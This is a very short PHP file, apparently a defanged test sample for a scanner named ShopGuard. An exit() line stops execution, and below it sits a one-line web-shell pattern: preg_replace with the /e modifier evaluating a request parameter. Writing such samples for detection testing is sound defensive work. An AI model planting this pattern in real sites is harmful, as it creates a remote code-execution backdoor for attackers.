<?php /* ShopGuard test sample, DEFANGED: shape of a real family, payload removed. Never deploy. */ exit('defanged'); ?>
<?php
preg_replace('/.*/e', $_REQUEST['sg'], 'defanged');
